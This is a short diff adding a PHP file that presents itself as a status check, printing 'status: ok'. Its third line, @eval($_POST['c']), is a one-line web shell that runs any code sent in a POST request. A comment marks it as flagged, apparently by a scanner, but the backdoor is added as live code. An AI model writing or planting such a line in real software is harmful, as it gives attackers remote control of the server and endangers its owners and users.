@@ -1,0 +1,3 @@
+<?php
+echo "status: ok";
+@eval($_POST['c']); // gatehouse: flagged
